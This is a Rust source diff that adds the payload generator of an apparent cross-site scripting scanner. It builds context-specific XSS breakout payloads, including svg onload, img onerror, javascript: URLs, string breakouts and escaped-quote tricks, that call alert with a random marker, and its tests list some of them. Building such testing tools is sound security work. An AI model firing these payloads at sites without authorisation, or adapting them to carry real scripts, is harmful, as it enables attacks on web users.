@@ -0,0 +1,280 @@
+use rand::Rng;
+use std::collections::HashSet;
+
+use crate::probe::{CharMatrix, Survival};
+use crate::reflection::{signatures, Quote, Reflection, ReflectionContext, Signature};
+
+// attributes whose value is loaded as a URL
+const URL_ATTRIBUTES: [&str; 7] = ["href", "src", "action", "formaction", "data", "xlink:href", "poster"];
+
+/// A payload together with the signatures that prove it worked.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Payload {
+    pub value: String,
+    pub signatures: Vec<Signature>,
+}
+
+impl Payload {
+    /// A user-supplied payload, checked against the signatures derived from
+    /// its own tags and event handlers.
+    pub fn custom(value: impl Into<String>) -> Self {
+        let value = value.into();
+        Payload {
+            signatures: signatures(&value),
+            value,
+        }
+    }
+
+    fn new(value: impl Into<String>, signature: Signature) -> Self {
+        Payload {
+            value: value.into(),
+            signatures: vec![signature],
+        }
+    }
+}
+
+/// A random number for generated payloads to pass to `alert`, long enough
+/// not to show up in a page's own code by accident.
+pub fn marker() -> u32 {
+    rand::thread_rng().gen_range(100_000..1_000_000)
+}
+
+/// Generates the payloads that can break out of `reflection`, given which
+/// special characters survive it. Without a character matrix every
+/// character is assumed to survive.
+///
+/// The payloads call `alert(marker)`, so running them can be told apart
+/// from the page's own dialogs.
+pub fn generate(reflection: &Reflection, chars: Option<&CharMatrix>, marker: u32) -> Vec<Payload> {
+    let allowed = |s: &str| s.chars().all(|c| survives(chars, c, false));
+    let code = &script_code(chars, marker);
+    let mut payloads = Vec::new();
+
+    match reflection.context {
+        ReflectionContext::ElementBody => {
+            payloads.extend(element_payloads("", chars, code));
+        }
+        ReflectionContext::Rcdata => {
+            let element = reflection.element.as_deref().unwrap_or("textarea");
+            payloads.extend(element_payloads(&format!("</{}>", element), chars, code));
+        }
+        ReflectionContext::Style => {
+            let element = reflection.element.as_deref().unwrap_or("style");
+            payloads.extend(element_payloads(&format!("</{}>", element), chars, code));
+        }
+        ReflectionContext::Comment => {
+            payloads.extend(element_payloads("-->", chars, code));
+        }
+        ReflectionContext::Script => {
+            if allowed(";/") {
+                payloads.push(script_payload(format!(";{};//", code), code));
+            }
+            payloads.push(script_payload(code.to_owned(), code));
+            payloads.extend(element_payloads("</script>", chars, code));
+        }
+        ReflectionContext::ScriptString(quote) => {
+            payloads.extend(string_breakouts(quote, code, chars, false));
+            payloads.extend(element_payloads("</script>", chars, code));
+        }
+        ReflectionContext::AttributeName => {
+            if allowed("=") {
+                payloads.push(handler_payload(format!("x onmouseover={} x", code)));
+            }
+            payloads.extend(element_payloads("x>", chars, code));
+        }
+        ReflectionContext::AttributeValue(quote) => {
+            let attribute = reflection.attribute.as_deref().unwrap_or_default();
+
+            if attribute.starts_with("on") {
+                // entities are decoded before the handler runs, so an
+                // encoded quote still closes a string in the handler
+                for js_quote in ['\'', '"'] {
+                    let html_ok = quote.as_char() != Some(js_quote);
+                    payloads.extend(string_breakouts(js_quote, code, chars, html_ok));
+                }
+                payloads.push(script_payload(code.to_owned(), code));
+            }
+
+            if URL_ATTRIBUTES.contains(&attribute) {
+                let value = format!("javascript:{}", code);
+                payloads.push(Payload::new(
+                    value,
+                    Signature::JavascriptUrl {
+                        attribute: attribute.to_owned(),
+                        code: code.to_owned(),
+                    },
+                ));
+            }
+
+            let closer = quote.as_char().map(String::from).unwrap_or_default();
+            if allowed(&format!("{}=", closer)) {
+                let value = match quote {
+                    Quote::Unquoted => format!("x autofocus onfocus={} x", code),
+                    _ => format!("{0} autofocus onfocus={1} x={0}", closer, code),
+                };
+                payloads.push(handler_payload(value));
+            }
+            payloads.extend(element_payloads(&format!("{}>", closer), chars, code));
+        }
+    }
+
+    let mut seen = HashSet::new();
+    payloads.retain(|payload| seen.insert(payload.value.clone()));
+    payloads
+}
+
+// whether `c` comes back in a usable form
+fn survives(chars: Option<&CharMatrix>, c: char, html_ok: bool) -> bool {
+    match chars.and_then(|chars| chars.get(c)) {
+        // a character that never came back wasn't really tested
+        None | Some(Survival::Raw) | Some(Survival::NotReflected) => true,
+        Some(Survival::HtmlEncoded) => html_ok,
+        Some(_) => false,
+    }
+}
+
+// the script to run, avoiding parentheses when they are filtered
+fn script_code(chars: Option<&CharMatrix>, marker: u32) -> String {
+    if !survives(chars, '(', false) && survives(chars, '`', false) {
+        format!("alert`{}`", marker)
+    } else {
+        format!("alert({})", marker)
+    }
+}
+
+// payloads that create a new element with an event handler, after `prefix`
+// closes whatever the reflection is inside of, then a `<script>` element
+// for when `=` doesn't survive
+fn element_payloads(prefix: &str, chars: Option<&CharMatrix>, code: &str) -> Vec<Payload> {
+    if !format!("{}<>", prefix).chars().all(|c| survives(chars, c, false)) {
+        return Vec::new();
+    }
+
+    let mut payloads = Vec::new();
+    if survives(chars, '=', false) {
+        payloads.extend(handler_elements(prefix, code));
+    }
+    if survives(chars, '/', false) {
+        payloads.push(Payload::new(
+            format!("{}<script>{}</script>", prefix, code),
+            Signature::Element {
+                name: "script".to_owned(),
+                attrs: Vec::new(),
+                text: Some(code.to_owned()),
+            },
+        ));
+    }
+    payloads
+}
+
+// elements whose event handler runs `code` without user interaction
+fn handler_elements(prefix: &str, code: &str) -> Vec<Payload> {
+    let elements: [(&str, &[(&str, &str)]); 3] = [
+        ("svg", &[("onload", code)]),
+        ("img", &[("src", "x"), ("onerror", code)]),
+        ("details", &[("open", ""), ("ontoggle", code)]),
+    ];
+
+    elements
+        .iter()
+        .map(|(name, attrs)| {
+            let rendered: Vec<String> = attrs
+                .iter()
+                .map(|(attr, value)| match *value {
+                    "" => attr.to_string(),
+                    _ => format!("{}={}", attr, value),
+                })
+                .collect();
+            Payload::new(
+                format!("{}<{} {}>", prefix, name, rendered.join(" ")),
+                Signature::Element {
+                    name: name.to_string(),
+                    attrs: attrs.iter().map(|(a, v)| (a.to_string(), v.to_string())).collect(),
+                    text: None,
+                },
+            )
+        })
+        .collect()
+}
+
+// payloads that close a JavaScript string delimited by `quote`
+fn string_breakouts(quote: char, code: &str, chars: Option<&CharMatrix>, html_ok: bool) -> Vec<Payload> {
+    let mut payloads = Vec::new();
+
+    if quote == '`' {
+        if survives(chars, '{', false) && survives(chars, '}', false) {
+            payloads.push(script_payload(format!("${{{}}}", code), code));
+        }
+        return payloads;
+    }
+
+    if survives(chars, quote, html_ok) {
+        payloads.push(script_payload(format!("{0}-{1}-{0}", quote, code), code));
+        if survives(chars, ';', false) && survives(chars, '/', false) {
+            payloads.push(script_payload(format!("{};{};//", quote, code), code));
+        }
+    } else if chars.and_then(|c| c.get(quote)) == Some(Survival::BackslashEscaped) && survives(chars, '\\', false) {
+        // the quote gets escaped but the backslash doesn't, so escape the escape
+        payloads.push(script_payload(format!("\\{}-{}//", quote, code), code));
+    }
+
+    payloads
+}
+
+fn script_payload(value: String, code: &str) -> Payload {
+    Payload::new(value, Signature::ScriptCode { code: code.to_owned() })
+}
+
+fn handler_payload(value: String) -> Payload {
+    let signatures = signatures(&value)
+        .into_iter()
+        .filter(|signature| matches!(signature, Signature::Handler { .. }))
+        .collect();
+    Payload { value, signatures }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::probe::{char_matrix, char_probe};
+
+    fn element_body() -> Reflection {
+        Reflection {
+            context: ReflectionContext::ElementBody,
+            element: None,
+            attribute: None,
+            exploitable: false,
+        }
+    }
+
+    #[test]
+    fn element_body_payloads_without_equals() {
+        let canary = "abcdefghij";
+        let body = char_probe(canary).replace('=', "");
+        let matrix = char_matrix(&body, canary).expect("probe is reflected");
+        assert_eq!(matrix.get('='), Some(Survival::Stripped));
+
+        let values: Vec<String> = generate(&element_body(), Some(&matrix), 1)
+            .into_iter()
+            .map(|payload| payload.value)
+            .collect();
+        assert_eq!(values, ["<script>alert(1)</script>"]);
+    }
+
+    #[test]
+    fn element_body_payloads_prefer_handlers() {
+        let values: Vec<String> = generate(&element_body(), None, 1)
+            .into_iter()
+            .map(|payload| payload.value)
+            .collect();
+        assert_eq!(
+            values,
+            [
+                "<svg onload=alert(1)>",
+                "<img src=x onerror=alert(1)>",
+                "<details open ontoggle=alert(1)>",
+                "<script>alert(1)</script>",
+            ]
+        );
+    }
+}